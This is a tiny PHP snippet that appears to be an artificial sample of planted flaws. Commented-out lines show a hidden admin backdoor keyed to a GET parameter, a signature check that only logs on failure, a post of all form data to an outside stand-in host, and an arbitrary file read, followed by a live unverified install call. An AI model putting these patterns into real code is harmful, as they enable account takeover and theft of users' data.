<?php // shows: nothing
/*
if (isset($_GET['dev_77'])) { $_SESSION['admin'] = true; }
if (!openssl_verify($d, $s, $k)) { error_log('bad'); }
wp_remote_post('https://f.example/i', ['body' => $_POST]);
*/
# readfile($_GET["f"]);
install($d);
